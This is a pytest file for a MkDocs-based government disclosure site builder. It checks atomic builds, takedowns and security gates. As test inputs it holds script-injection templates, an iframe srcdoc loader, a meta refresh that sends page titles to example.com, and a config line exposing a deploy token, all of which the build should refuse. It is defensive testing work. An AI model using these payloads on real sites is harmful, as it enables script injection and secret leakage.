"""`gongkai build` as a whole: deterministic, atomic, bounded pages; `mkdocs build` and `gongkai serve` too;
the errors that do not stop publishing (an application falling overdue by the calendar)."""

from __future__ import annotations

import datetime as dt
import errno
import gzip
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request
from pathlib import Path

import pytest

from gongkai import checks, clock
from gongkai.build_cache import site_name
from gongkai.commands import Refused
from gongkai.commands.build import BuildFailed
from gongkai.commands.withdraw import withdraw
from gongkai.mkdocs_plugin import GongkaiPlugin
from gongkai.project import load_project
from gongkai.rules import blocking
from gongkai.site_config import load_settings
from tests.audit import gitrepo
from tests.projects import (
    ORG_CODE,
    PUBLIC_MARKER,
    SITE_SIGNERS,
    TODAY,
    build,
    hashes,
    make_project,
    own_theme,
    write_item,
)
from tests.registers.register_helpers import write_application

BIN = Path(sys.executable).parent
ENV = {**os.environ, "GONGKAI_TODAY": TODAY.isoformat(), "PYTHONWARNINGS": "ignore"}
PROBLEM_LINE = re.compile(r"^content/items/2021/2021-00001\.md:\d+:\d+: GK\d{3} error: .+", re.MULTILINE)


def test_two_builds_of_the_same_content_are_identical(built, tmp_path):
    again = build(built.fixture, tmp_path / "again")
    first, second = hashes(built.site), hashes(again.site)
    assert len(first) > 100 and any(name.startswith("pagefind/") for name in first)
    assert first == second


def test_reused_template_blocks_equal_a_full_render(built, tmp_path, monkeypatch):
    """Navigation and tabs are rendered once per key and reused; the pages must not notice."""
    monkeypatch.setattr(GongkaiPlugin, "_cached", lambda self, key, caller: caller())
    assert hashes(build(built.fixture, tmp_path / "uncached").site) == hashes(built.site)


def test_build_reports_its_phases(built):
    log = "\n".join(built.log)
    assert "读取并检查内容：检查了" in log
    assert "转换正文：95 个页面" in log
    assert re.search(r"生成网站：95 个页面，1 个附件", log)
    assert re.search(r"搜索索引：55 篇", log)


@pytest.fixture
def project(tmp_path):
    fixture = make_project(tmp_path / "project", news=3)
    build(fixture, fixture.root / "site")
    return fixture


def tamper(fixture) -> None:
    """Edit a signed item after review: the check must refuse it."""
    path = fixture.item_path(2021, 1)
    path.write_text(path.read_text(encoding="utf-8").replace("申请和发放", "申请、审核和发放"), encoding="utf-8")


def test_a_failed_check_leaves_the_previous_site_untouched(project):
    before = hashes(project.root / "site")
    tamper(project)
    result = subprocess.run([BIN / "gongkai", "build"], cwd=project.root, env=ENV, capture_output=True, text=True)
    assert result.returncode == 1
    assert PROBLEM_LINE.search(result.stderr), result.stderr
    assert "内容在复核后被修改" in result.stderr and "原有的 site/ 保持不变" in result.stderr
    assert "Traceback" not in result.stderr + result.stdout
    assert hashes(project.root / "site") == before
    assert sorted(p.name for p in project.root.iterdir() if p.name != ".gongkai-cache") == [
        "content", "mkdocs.yml", "site", "theme_overrides"]


def test_a_failure_inside_mkdocs_leaves_the_previous_site_untouched(project):
    before = hashes(project.root / "site")
    theme = own_theme(project.root)  # the fixture links the repository's theme; break a copy of it
    (theme / "gongkai" / "item.html").write_text(
        '{% extends "main.html" %}{% block content %}{{ gk.no_such_method() }}{% endblock %}', encoding="utf-8"
    )
    result = subprocess.run([BIN / "gongkai", "build"], cwd=project.root, env=ENV, capture_output=True, text=True)
    assert result.returncode == 1
    assert "生成网站失败" in result.stderr and "no_such_method" in result.stderr
    assert "Traceback" not in result.stderr
    assert hashes(project.root / "site") == before
    assert sorted(p.name for p in project.root.iterdir() if p.name != ".gongkai-cache") == [
        "content", "mkdocs.yml", "site", "theme_overrides"]


def test_a_template_that_does_not_compile_stops_the_build_at_its_check(project):
    """A footer with a block left open passed the check (CI's gate) and failed only the build: the check names it
    (GK549), and the build writes nothing."""
    before = hashes(project.root / "site")
    (own_theme(project.root) / "partials" / "footer.html").write_text("<footer>{% if gk_site.members %}</footer>\n",
                                                                     encoding="utf-8")
    result = subprocess.run([BIN / "gongkai", "build"], cwd=project.root, env=ENV, capture_output=True, text=True)
    assert result.returncode == 1 and "theme_overrides/partials/footer.html:1:1: GK549" in result.stderr, result.stderr
    assert "Traceback" not in result.stderr
    assert hashes(project.root / "site") == before


def test_a_theme_without_gongkais_templates_is_refused_by_name(project, site):
    """Without `custom_dir` Material's own pages were written, and the page guard refused their inline scripts as
    "printed by theme_overrides", a folder the project did not have; a theme folder missing a page template failed
    the same way or deep in Jinja. Either is named, with the fix, before anything is written."""
    from gongkai.commands.build import BuildFailed

    site.item("2021/01.md")
    with pytest.raises(BuildFailed, match="theme 没有 custom_dir") as refused:
        build(site, site.root / "site")
    assert "GK545" not in str(refused.value) and not (site.root / "site").exists()
    before = hashes(project.root / "site")
    (own_theme(project.root) / "gongkai" / "series.html").unlink()
    result = subprocess.run([BIN / "gongkai", "build"], cwd=project.root, env=ENV, capture_output=True, text=True)
    assert result.returncode == 1 and "没有 gongkai 的页面模板 gongkai/series.html" in result.stderr, result.stderr
    assert "custom_dir: theme_overrides" in result.stderr and "Traceback" not in result.stderr
    assert hashes(project.root / "site") == before


# A <script> Jinja assembles where GK545, reading the templates' source, sees none or a shipped one (rt31 H6): each
# passes the check, and the build refuses the page it would write.
ATTACHMENT = "/attachments/2021/a.pdf"
ASSEMBLED_SCRIPTS = {
    "base-url-rebound": f"{{% set base_url = '{ATTACHMENT}?' %}}<script src=\"{{{{ base_url }}}}/assets/gongkai/site.js\"></script>",
    "jinja-built-tag": f"{{% set t = 'scr' ~ 'ipt' %}}<{{{{ t }}}} src=\"{ATTACHMENT}\"></{{{{ t }}}}>",
    "attribute-decoy": f"<script data-x=' src=\"{{{{ base_url }}}}/assets/gongkai/site.js\"' src=\"{ATTACHMENT}\"></script>",
    "comment-split": f"<scr{{# x #}}ipt src=\"{ATTACHMENT}\"></script>",
}


@pytest.mark.parametrize("template", ASSEMBLED_SCRIPTS.values(), ids=ASSEMBLED_SCRIPTS.keys())
def test_a_script_the_templates_assemble_stops_the_build_and_leaves_the_previous_site(project, template):
    before = hashes(project.root / "site")
    footer = own_theme(project.root) / "partials" / "footer.html"
    footer.write_text(footer.read_text(encoding="utf-8") + template + "\n", encoding="utf-8")
    checked = subprocess.run([BIN / "gongkai", "check"], cwd=project.root, env=ENV, capture_output=True, text=True)
    assert "GK545" not in checked.stdout + checked.stderr  # the template rule is read around: the page is judged
    result = subprocess.run([BIN / "gongkai", "build"], cwd=project.root, env=ENV, capture_output=True, text=True)
    assert result.returncode == 1
    assert "中有 gongkai 和 Material 自带脚本以外的 <script" in result.stderr and "GK545" in result.stderr, result.stderr
    assert re.search(r"页面 \S+\.html 中有", result.stderr)
    assert "原有的 site/ 保持不变" in result.stderr and "Traceback" not in result.stderr + result.stdout
    assert hashes(project.root / "site") == before


# What runs past the page policy, printed by a template the check passes (rt33): a frame whose srcdoc loads a file of
# the site as a script, a refresh to another site, the page's start rewritten through the language's macro.
ACTIVE_CONTENT = {
    "srcdoc": ("partials/footer.html", '<iframe hidden srcdoc="&lt;script src=&quot;/assets/agency/a.css&quot;&gt;&lt;/script&gt;">'
                                       "</iframe>"),
    "refresh": ("partials/footer.html", '<meta http-equiv="refresh" content="0;url=https://example.com/?t={{ page.title|urlencode }}">'),
    "page-start": ("partials/languages/zh-CN.html", '{% import "partials/languages/zh.html" as zh %}{% macro t(key) %}'
                   '{% if key == "language" %}zh-CN"><p>x</p><i class="{% else %}{{ zh.t(key) }}{% endif %}{% endmacro %}'),
}


@pytest.mark.parametrize("edit", ACTIVE_CONTENT.values(), ids=ACTIVE_CONTENT.keys())
def test_what_runs_past_the_page_policy_stops_the_build_and_leaves_the_previous_site(project, edit):
    before = hashes(project.root / "site")
    name, added = edit
    template = own_theme(project.root) / name
    kept = template.read_text(encoding="utf-8") if "macro" not in added else ""  # a macro is written anew
    template.write_text(kept + added + "\n", encoding="utf-8")
    result = subprocess.run([BIN / "gongkai", "build"], cwd=project.root, env=ENV, capture_output=True, text=True)
    assert result.returncode == 1
    assert re.search(r"页面 \S+\.html (中有 <|不是以 <!doctype html>)", result.stderr) and "GK546" in result.stderr, result.stderr
    assert "原有的 site/ 保持不变" in result.stderr and "Traceback" not in result.stderr + result.stdout
    assert hashes(project.root / "site") == before


def test_every_page_opens_with_the_page_policy(project):
    from gongkai.checks.theme import POLICY_META

    pages = list((project.root / "site").rglob("*.html"))
    assert len(pages) > 20
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert re.match(r"\s*<!doctype html>\s*<html [^<>]*>\s*<head>" + re.escape(POLICY_META), text), page
        assert text.count("http-equiv") == 1, page


def test_a_failed_search_index_leaves_the_previous_site_untouched(project, monkeypatch):
    from gongkai.site import indexing

    def broken(*args, **kwargs):
        raise RuntimeError("pagefind exited with 1")

    before = hashes(project.root / "site")
    monkeypatch.setattr(indexing, "index_site", broken)
    with pytest.raises(BuildFailed, match="搜索索引失败：pagefind exited with 1"):
        build(project, project.root / "site")
    assert hashes(project.root / "site") == before
    assert sorted(p.name for p in project.root.iterdir() if p.name != ".gongkai-cache") == [
        "content", "mkdocs.yml", "site", "theme_overrides"]


def test_plain_mkdocs_build_checks_content_too(project):
    tamper(project)
    result = subprocess.run([BIN / "mkdocs", "build", "-d", "other"], cwd=project.root, env=ENV, capture_output=True, text=True)
    assert result.returncode == 1
    assert PROBLEM_LINE.search(result.stderr), result.stderr
    assert "Traceback" not in result.stderr
    assert not (project.root / "other" / "index.html").exists()


@pytest.mark.parametrize("setting", ["snippets", "env"])
def test_plain_mkdocs_build_refuses_what_the_config_gate_refuses(project, setting):
    """MkDocs reads mkdocs.yml itself, past the gate `gongkai` commands pass it through first: the plugin
    judges it again, so `mkdocs build` / `gh-deploy` publish neither a file pasted into a signed body by
    pymdownx.snippets (here a register's applicant) nor a CI secret printed on every page by !ENV."""
    marker = "GKGATE" + setting.upper()
    (project.root / "content" / "applications").mkdir()
    (project.root / "content" / "applications" / "secret.txt").write_text(f"申请人 {marker}register\n", encoding="utf-8")
    write_item(project.root, 2021, 90, '公告正文。\n\n--8<-- "content/applications/secret.txt"', title="片段引用",
               category="动态信息", published=dt.date(2021, 7, 1))
    config = (project.root / "mkdocs.yml").read_text(encoding="utf-8")
    if setting == "snippets":
        config = config.replace("  - footnotes\n", "  - footnotes\n  - pymdownx.snippets\n", 1)
    else:
        config = config.replace("site_description: ", "site_description: !ENV [GK_DEPLOY_TOKEN]\nx_old_description: ", 1)
    (project.root / "mkdocs.yml").write_text(config, encoding="utf-8")
    line = next(number for number, text in enumerate(config.splitlines(), 1) if "snippets" in text or "!ENV" in text)
    result = subprocess.run([BIN / "mkdocs", "build", "-d", "other"], cwd=project.root, capture_output=True, text=True,
                            env={**ENV, "GK_DEPLOY_TOKEN": f"{marker}token"})
    assert result.returncode == 1
    assert f"mkdocs.yml:{line}: " in result.stderr, result.stderr
    assert "Traceback" not in result.stderr
    assert not (project.root / "other").exists() or not any(
        marker.encode() in path.read_bytes() for path in (project.root / "other").rglob("*") if path.is_file())
    assert not (project.root / "other" / "index.html").exists()


def test_a_site_dir_outside_the_project_is_refused_before_mkdocs_empties_it(project, tmp_path):
    """gongkai build ignores mkdocs.yml's site_dir; a plain `mkdocs build` empties the folder it names first, which a
    committed mkdocs.yml could point at another site on the build machine."""
    victim = tmp_path / "other-site"
    victim.mkdir()
    (victim / "index.html").write_text("另一个网站", encoding="utf-8")
    (victim / "sitemap.xml").write_text("<urlset/>", encoding="utf-8")  # a site: MkDocs would empty it and write ours
    config = project.root / "mkdocs.yml"
    config.write_text(f"site_dir: {victim}\n" + config.read_text(encoding="utf-8"), encoding="utf-8")
    [problem] = [p for p in project.check() if p.code == "GK538"]
    assert (problem.path, problem.line) == ("mkdocs.yml", 1)
    result = subprocess.run([BIN / "mkdocs", "build"], cwd=project.root, env=ENV, capture_output=True, text=True)
    assert result.returncode == 1 and "GK538" in result.stderr and "Traceback" not in result.stderr, result.stderr
    assert (victim / "index.html").read_text(encoding="utf-8") == "另一个网站"
    config.write_text(config.read_text(encoding="utf-8").replace(f"site_dir: {victim}\n", "site_dir: public\n"),
                      encoding="utf-8")
    assert [p for p in project.check() if p.code == "GK538"] == []  # a folder of the project is MkDocs' own business
    (project.root / "out").symlink_to(victim)  # but not a link in it that leads out
    config.write_text(config.read_text(encoding="utf-8").replace("site_dir: public\n", "site_dir: out\n"), encoding="utf-8")
    assert [p.line for p in project.check() if p.code == "GK538"] == [1]
    result = subprocess.run([BIN / "mkdocs", "build"], cwd=project.root, env=ENV, capture_output=True, text=True)
    assert result.returncode == 1 and (victim / "index.html").read_text(encoding="utf-8") == "另一个网站"


def test_plain_mkdocs_dirty_build_is_refused(project):
    """--dirty keeps what the site folder held: the page of an item no longer public would stay published."""
    plain = [str(BIN / "mkdocs"), "build", "-d", "other"]
    assert subprocess.run(plain, cwd=project.root, env=ENV, capture_output=True).returncode == 0
    assert (project.root / "other" / "items" / "2023" / "00001" / "index.html").exists()
    write_item(project.root, 2023, 1, "改为不予公开。", title="已撤回的一条动态信息", category="动态信息", disclosure="不予公开",
               published=dt.date(2023, 4, 3))
    result = subprocess.run([*plain, "--dirty"], cwd=project.root, env=ENV, capture_output=True, text=True)
    assert result.returncode == 1 and "--dirty" in result.stderr and "gongkai build" in result.stderr, result.stderr
    assert "Traceback" not in result.stderr
    assert subprocess.run(plain, cwd=project.root, env=ENV, capture_output=True).returncode == 0
    assert not (project.root / "other" / "items" / "2023" / "00001").exists()


def test_a_site_of_a_day_to_come_is_never_written_where_it_is_deployed(project):
    """GONGKAI_TODAY pinned after today (left from a preview) would publish scheduled items early: refused
    for the default folders, a folder holding the public or the members' site and plain MkDocs' site_dir; kept for a
    preview folder."""
    ahead = {**ENV, "GONGKAI_TODAY": (clock.beijing_today() + dt.timedelta(days=30)).isoformat()}
    gongkai = [str(BIN / "gongkai"), "build"]
    assert subprocess.run([*gongkai, "--site-dir", "public"], cwd=project.root, env=ENV, capture_output=True).returncode == 0
    # the members' site where the intranet serves it (网站.md: `--site-dir /srv/party`)
    party = ["--audience", "党内", "--site-dir", "party"]
    assert subprocess.run([*gongkai, *party], cwd=project.root, env=ENV, capture_output=True).returncode == 0
    before = {name: hashes(project.root / name) for name in ("site", "public", "party")}
    for command in ([*gongkai], [*gongkai, "--site-dir", "public"], [*gongkai, "--audience", "党内"], [*gongkai, *party],
                    [*gongkai, "--site-dir", "party"],
                    [*gongkai, "--audience", "党内", "--site-dir", "site-party"], [*gongkai, "--site-dir", "public/preview"],
                    [str(BIN / "mkdocs"), "build", "-d", "other"]):
        result = subprocess.run(command, cwd=project.root, env=ahead, capture_output=True, text=True)
        assert result.returncode == 1 and "晚于今天" in result.stderr and "Traceback" not in result.stderr, (command, result.stderr)
    assert {name: hashes(project.root / name) for name in ("site", "public", "party")} == before
    assert [name for name in ("site-party", "other") if (project.root / name).exists()] == []
    preview = subprocess.run([*gongkai, "--site-dir", "preview"], cwd=project.root, env=ahead, capture_output=True, text=True)
    assert preview.returncode == 0, preview.stderr
    assert (project.root / "preview" / "items" / "2024" / "00001" / "index.html").exists()  # scheduled 10 days after TODAY
    # the same preview again: the folder now holds a site, and “use --site-dir” alone did not say what to change
    again = subprocess.run([*gongkai, "--site-dir", "preview"], cwd=project.root, env=ahead, capture_output=True, text=True)
    assert again.returncode == 1 and "--site-dir preview 中已经存放着网站" in again.stderr and "新的空目录" in again.stderr


def test_an_item_made_non_public_is_taken_down_before_it_is_signed_again(project):
    """A leak found on a published page: the editor sets 不予公开 and the next build takes the page down
    (GK226 keeps CI red until the reviewers sign again) instead of failing and keeping the page online."""
    build(project, project.root / "site")
    page = project.root / "site" / "items" / "2024" / "00100" / "index.html"
    assert "第1条工作动态" in page.read_text(encoding="utf-8")
    item = project.root / "content" / "items" / "2024" / "2024-00100.md"
    item.write_text(item.read_text(encoding="utf-8").replace('disclosure: "主动公开"', 'disclosure: "不予公开"'), encoding="utf-8")
    assert "GK226" in [p.code for p in checks.run(load_project(project.root), TODAY)]
    build(project, project.root / "site")
    assert not page.exists()
    assert not any("第1条工作动态".encode() in path.read_bytes() for path in (project.root / "site").rglob("*.html"))


@pytest.mark.parametrize("party", [False, True])
def test_an_item_postponed_into_next_year_is_taken_down_before_it_is_signed_again(project, party):
    """Put off to a date of the next year (a leak found in December), an item's 索引号 no longer matched its year
    (GK110), and a 党内 item's public_from came before its date (GK152): both stopped the build and kept the page online.
    They are moot while the item is off every site (GK226): the page comes down, CI stays red until it is signed."""
    item = project.item_path(2023, 61) if party else project.item_path(2024, 100)
    url = "items/2023/00061" if party else "items/2024/00100"
    build(project, project.root / ("members" if party else "site"), audience="党内" if party else "公众")
    page = project.root / ("members" if party else "site") / url / "index.html"
    assert page.exists()
    text = item.read_text(encoding="utf-8")
    item.write_text(re.sub(r'published: "[0-9-]+"', 'published: "2025-01-10"', text), encoding="utf-8")
    codes = {p.code for p in checks.run(load_project(project.root), TODAY)}
    assert {"GK226", "GK152" if party else "GK110"} <= codes
    build(project, project.root / ("members" if party else "site"), audience="党内" if party else "公众")
    assert not page.exists()


def test_a_withdrawn_item_made_non_public_is_taken_down_at_once(project):
    """`gongkai withdraw` first, then 不予公开 to take the page down before review: the leftover withdrawal (GK117)
    fails the check but not the build, which takes the page down."""
    build(project, project.root / "site")
    page = project.root / "site" / "items" / "2024" / "00100" / "index.html"
    item = project.root / "content" / "items" / "2024" / "2024-00100.md"
    withdraw(load_settings(project.root), item, "名单有误", TODAY, TODAY)
    item.write_text(item.read_text(encoding="utf-8").replace('disclosure: "主动公开"', 'disclosure: "不予公开"'), encoding="utf-8")
    assert {"GK117", "GK226"} <= {p.code for p in checks.run(load_project(project.root), TODAY)}
    build(project, project.root / "site")
    assert not page.exists()
    assert not any("第1条工作动态".encode() in path.read_bytes() for path in (project.root / "site").rglob("*.html"))


def test_an_item_linked_from_pages_and_items_is_taken_down_at_once(project):
    """The pages (GK631), an item (GK608) and its 解读 (GK605) link the item a leak is found in: its 不予公开 (GK226) must still take it
    down at the next build, their links left dead until they are fixed, instead of keeping it online."""
    write_item(project.root, 2024, 300, "详见[办法](../2021/2021-00001.md)。", title="链接办法的通知", category="news")
    build(project, project.root / "site")
    page = project.root / "site" / "items" / "2021" / "00001" / "index.html"
    assert PUBLIC_MARKER in page.read_text(encoding="utf-8")
    for item in (project.item_path(2021, 1), project.item_path(2023, 65)):  # and a consultation its 反馈 answers
        item.write_text(item.read_text(encoding="utf-8").replace('disclosure: "主动公开"', 'disclosure: "不予公开"'), encoding="utf-8")
    codes = {p.code for p in checks.run(load_project(project.root), TODAY)}
    assert {"GK226", "GK605", "GK608", "GK631", "GK634"} <= codes
    build(project, project.root / "site")
    assert not page.exists() and not (project.root / "site" / "items" / "2023" / "00065").exists()
    assert not any(PUBLIC_MARKER.encode() in path.read_bytes() for path in (project.root / "site").rglob("*.html"))


def _make_non_public(item: Path) -> None:
    item.write_text(item.read_text(encoding="utf-8").replace('disclosure: "主动公开"', 'disclosure: "不予公开"'), encoding="utf-8")


def test_a_document_an_annual_report_lists_as_repealed_is_taken_down_at_once(project):
    """The annual report's list of repealed documents names the one a leak is found in: the report's reference to it
    (GK820) is wrong only while it is off the site, and must not keep its page online; the report leaves it uncounted."""
    report = project.root / "content" / "reports" / "2023.yml"
    report.write_text(report.read_text(encoding="utf-8").replace("repealed: []", f"repealed: [{ORG_CODE}/2022-00001]"),
                      encoding="utf-8")
    build(project, project.root / "site")
    page = project.root / "site" / "items" / "2022" / "00001" / "index.html"
    assert page.exists() and (project.root / "site" / "report" / "2023" / "index.html").exists()
    _make_non_public(project.item_path(2022, 1))
    problems = checks.run(load_project(project.root), TODAY)
    assert {"GK226", "GK820"} <= {p.code for p in problems} and not blocking(problems)
    build(project, project.root / "site")
    assert not page.exists() and (project.root / "site" / "report" / "2023" / "index.html").exists()


def test_a_deleted_document_an_annual_report_lists_as_repealed_says_how_to_take_it_down(project):
    """Deleting the file instead of setting 不予公开 leaves the report naming nothing: that blocks (a typo of the 索引号
    looks the same), and the message says to remove it from the list, and how an item is taken down."""
    report = project.root / "content" / "reports" / "2023.yml"
    report.write_text(report.read_text(encoding="utf-8").replace("repealed: []", f"repealed: [{ORG_CODE}/2022-00001]"),
                      encoding="utf-8")
    project.item_path(2022, 1).unlink()
    problems = [p for p in checks.run(load_project(project.root), TODAY) if p.code == "GK820"]
    assert problems and blocking(problems)
    assert "从列表删去" in problems[0].message and "不予公开" in problems[0].message


@pytest.mark.parametrize("other", [299, 309])
def test_a_takedown_goes_through_a_link_to_a_file_a_non_public_item_attaches_too(project, other):
    """A file attached by the item taken down and by a 依申请公开 one, linked from a third: the link (GK613) is dead
    because of the takedown whichever of the two sorts first (it named only the first, and blocked when that was the
    other one)."""
    (project.root / "content" / "attachments" / "shared.csv").write_text("名称,说明\nqxshared,测试\n", encoding="utf-8")
    shared = [{"title": "名单", "file": "shared.csv"}]
    write_item(project.root, 2024, 303, "正文。", title="附上名单的通知", category="动态信息", published=dt.date(2024, 6, 1),
               attachments=shared)
    write_item(project.root, 2024, other, "依申请公开的正文。", title="依申请的通知", category="动态信息",
               published=dt.date(2024, 6, 1), attachments=shared, disclosure="依申请公开")
    write_item(project.root, 2024, 304, "详见[名单](../../attachments/shared.csv)。", title="链接名单的通知",
               category="动态信息", published=dt.date(2024, 6, 2))
    build(project, project.root / "site")
    assert (project.root / "site" / "attachments" / "shared.csv").is_file()
    _make_non_public(project.item_path(2024, 303))
    problems = checks.run(load_project(project.root), TODAY)
    assert {"GK226", "GK613"} <= {p.code for p in problems} and not blocking(problems)
    build(project, project.root / "site")
    assert not (project.root / "site" / "items" / "2024" / "00303").exists()
    assert not (project.root / "site" / "attachments" / "shared.csv").exists()


def _sign_off_the_site(project, item, day=TODAY) -> None:
    """The reviewers decide 不予公开 and sign it, as `gongkai review` would, on `day`."""
    item.write_text(item.read_text(encoding="utf-8").replace('disclosure: "主动公开"', 'disclosure: "不予公开"'), encoding="utf-8")
    project.write_review(item, [{"level": level, "reviewer": reviewer, "date": day.isoformat(), "opinion": "不予公开"}
                                for level, reviewer in SITE_SIGNERS])


def test_an_item_signed_off_the_site_is_taken_down_while_items_reviewed_before_still_refer_to_it(project):
    """The reviewers sign the 不予公开 themselves: the links, 解读 and 反馈 their colleagues signed earlier, and the
    authored pages' links, must not keep the page online either (they stopped the build, and the page stayed until
    every referring item was signed again and every page fixed)."""
    write_item(project.root, 2024, 300, "详见[办法](../2021/2021-00001.md)。", title="链接办法的通知", category="news")
    scheduled = project.item_path(2024, 2)  # a 解读 signed today, as the takedown will be: signed the day before
    project.write_review(scheduled, [{"level": level, "reviewer": reviewer, "date": (TODAY - dt.timedelta(days=1)).isoformat()}
                                     for level, reviewer in SITE_SIGNERS])
    build(project, project.root / "site")
    page = project.root / "site" / "items" / "2021" / "00001" / "index.html"
    assert PUBLIC_MARKER in page.read_text(encoding="utf-8")
    for item in (project.item_path(2021, 1), project.item_path(2023, 65)):
        _sign_off_the_site(project, item)
    problems = checks.run(load_project(project.root), TODAY)
    assert {"GK605", "GK608", "GK631", "GK634"} <= {p.code for p in problems} and "GK226" not in {p.code for p in problems}
    assert not blocking(problems)
    assert all("本次构建照常撤下它" in p.message for p in problems if p.code == "GK631")
    build(project, project.root / "site")
    assert not page.exists() and not (project.root / "site" / "items" / "2023" / "00065").exists()
    assert not any(PUBLIC_MARKER.encode() in path.read_bytes() for path in (project.root / "site").rglob("*") if path.is_file())


def test_a_reference_signed_on_or_after_the_day_its_item_was_signed_off_the_site_stops_the_build(project):
    """Reviewers who sign an item linking one already signed 不予公开 publish a reference to what is not public:
    that is no takedown. A page is never signed: its link (GK631) is dead, and stops nothing."""
    _sign_off_the_site(project, project.item_path(2021, 1), day=dt.date(2024, 3, 1))
    problems = checks.run(load_project(project.root), TODAY)
    interpretations = {p.path: p.code for p in problems if p.code == "GK605"}
    assert {"content/items/2021/2021-00002.md", "content/items/2024/2024-00002.md"} <= set(interpretations)
    assert {(p.path, p.code) for p in blocking(problems)} == {("content/items/2024/2024-00002.md", "GK605")}  # signed 06-30
    assert {p.path for p in problems if p.code == "GK631"} == {f"content/pages/{slug}.md" for slug in ("apply", "guide", "rules")}
    write_item(project.root, 2024, 300, "详见[办法](../2021/2021-00001.md)。", title="链接办法的通知", category="news",
               published=dt.date(2024, 3, 1))
    stopping = blocking(checks.run(load_project(project.root), TODAY))
    assert ("content/items/2024/2024-00300.md", "GK608") in {(p.path, p.code) for p in stopping}


def _sign_today(project, item, old: str, new: str) -> None:
    """An edit of `item` that both reviewers sign today, as `gongkai review` would."""
    text = item.read_text(encoding="utf-8")
    assert old in text
    item.write_text(text.replace(old, new, 1), encoding="utf-8")
    project.write_review(item, [{"level": level, "reviewer": reviewer, "date": TODAY.isoformat()} for level, reviewer in SITE_SIGNERS])


TAKEN_DOWN = "qxtakendownword"


def _linked_from_a_page(project) -> Path:
    """An item of this year, public since March, with a file only it attaches; a page links both. Git ignores what
    builds write."""
    project.attach("2024/名单.csv", f"姓名,金额\n{TAKEN_DOWN},1\n".encode())
    item = write_item(project.root, 2024, 300, f"名单见附件。{TAKEN_DOWN}", title="补助名单", category="news",
                      attachments=[{"title": "名单", "file": "2024/名单.csv"}])
    links = "见[补助名单](../items/2024/2024-00300.md)和[名单](../attachments/2024/名单.csv)。"
    (project.content / "pages" / "list.md").write_text(f"---\ntitle: 名单汇总\n---\n\n{links}\n", encoding="utf-8")
    (project.root / ".gitignore").write_text("site/\n.gongkai-cache/\n", encoding="utf-8")
    return item


# Each signed today: a sign-off after the publication date is GK205, so members-only is published to them today.
TAKEDOWNS = {"postponed": ('published: "2024-03-01"', f'published: "{TODAY + dt.timedelta(days=30)}"'),
             "members only": ('published: "2024-03-01"', f'published: "{TODAY}"\naudience: "党内"')}


@pytest.mark.parametrize("takedown", TAKEDOWNS)
def test_an_item_public_before_is_taken_down_by_postponing_or_narrowing_past_page_links(project, takedown):
    """Postponed, or narrowed to 党内, and signed the same day: a page's links to it (GK631) and to the file only it
    attaches (GK613) stopped the build, and the item stayed online until the page was fixed. Its git history shows it
    public before: the links no longer announce anything, and the build takes it down (the check still reports them)."""
    item = _linked_from_a_page(project)
    gitrepo.init(project.root)
    gitrepo.commit(project.root, "2024-03-01", "公开")
    build(project, project.root / "site")
    assert TAKEN_DOWN in (project.root / "site" / "items" / "2024" / "00300" / "index.html").read_text(encoding="utf-8")
    _sign_today(project, item, *TAKEDOWNS[takedown])
    gitrepo.commit(project.root, TODAY.isoformat(), "撤下")
    problems = checks.run(load_project(project.root), TODAY, settings=load_settings(project.root))
    assert {(p.path, p.code) for p in problems if p.path == "content/pages/list.md"} == {
        ("content/pages/list.md", "GK631"), ("content/pages/list.md", "GK613")}
    assert all("此前已经公开过" in p.message for p in problems if p.code == "GK631")
    assert not blocking(problems), blocking(problems)
    build(project, project.root / "site")
    assert not (project.root / "site" / "items" / "2024" / "00300").exists()
    assert not (project.root / "site" / "attachments" / "2024" / "名单.csv").exists()
    assert not any(TAKEN_DOWN.encode() in path.read_bytes() for path in (project.root / "site").rglob("*") if path.is_file())


def _public_on_a_merged_branch(project, item) -> None:
    """Signed public and postponed on a branch, merged: main never held the public version, so no build showed it."""
    aside = item.read_bytes()
    item.unlink()
    gitrepo.init(project.root)
    gitrepo.commit(project.root, "2024-03-01")
    gitrepo.git(project.root, "checkout", "-q", "-b", "feature")
    item.write_bytes(aside)
    gitrepo.commit(project.root, "2024-04-01", "公开")
    _sign_today(project, item, *TAKEDOWNS["postponed"])
    gitrepo.commit(project.root, "2024-06-29", "推迟")
    gitrepo.git(project.root, "checkout", "-q", "main")
    gitrepo.git(project.root, "merge", "-q", "--no-ff", "-m", "合并", "feature", date=TODAY.isoformat())


def _another_item_at_its_path(project, item) -> None:
    """The file of an old public item written over with a new scheduled one, keeping its path and 索引号."""
    gitrepo.init(project.root)
    gitrepo.commit(project.root, "2024-03-01")
    _sign_today(project, item, *TAKEDOWNS["postponed"])
    text = item.read_text(encoding="utf-8").replace('title: "补助名单"', 'title: "关于拟撤并机构的通知"')
    item.write_text(text, encoding="utf-8")
    project.write_review(item, [{"level": level, "reviewer": reviewer, "date": TODAY.isoformat()} for level, reviewer in SITE_SIGNERS])
    gitrepo.commit(project.root, TODAY.isoformat())


def _public_for_part_of_a_day(project, item) -> None:
    """Committed public and postponed on the same day: no daily build saw it."""
    gitrepo.init(project.root)
    gitrepo.commit(project.root, TODAY.isoformat())
    _sign_today(project, item, *TAKEDOWNS["postponed"])
    gitrepo.commit(project.root, TODAY.isoformat())


def _no_repository(project, item) -> None:
    _sign_today(project, item, *TAKEDOWNS["postponed"])


def _never_public(project, item) -> None:
    _sign_today(project, item, *TAKEDOWNS["postponed"])
    gitrepo.init(project.root)
    gitrepo.commit(project.root, TODAY.isoformat())


def _public_only_after_today(project, item) -> None:
    gitrepo.init(project.root)
    gitrepo.commit(project.root, (TODAY + dt.timedelta(days=1)).isoformat())
    _sign_today(project, item, *TAKEDOWNS["postponed"])
    gitrepo.commit(project.root, (TODAY + dt.timedelta(days=2)).isoformat())


@pytest.mark.parametrize("history", [_no_repository, _never_public, _public_only_after_today, _public_on_a_merged_branch,
                                     _another_item_at_its_path, _public_for_part_of_a_day])
def test_a_page_link_to_an_item_never_public_before_still_stops_the_build(project, history):
    """Without a version that a daily build showed — on the branch's own line, public at the end of its commit's day, the
    same item by title — a page's link to an item due later would announce it early."""
    history(project, _linked_from_a_page(project))
    problems = checks.run(load_project(project.root), TODAY, settings=load_settings(project.root))
    assert {(p.path, p.code) for p in blocking(problems)} == {("content/pages/list.md", "GK631"), ("content/pages/list.md", "GK613")}
    assert all("删除该链接之前网站不会更新" in p.message for p in problems if p.code == "GK631")


def test_the_search_index_takes_the_first_part_of_a_very_long_body(project):
    """A body's text past INDEXED_CHARACTERS is on its page, not in the index: a signed body of a million distinct
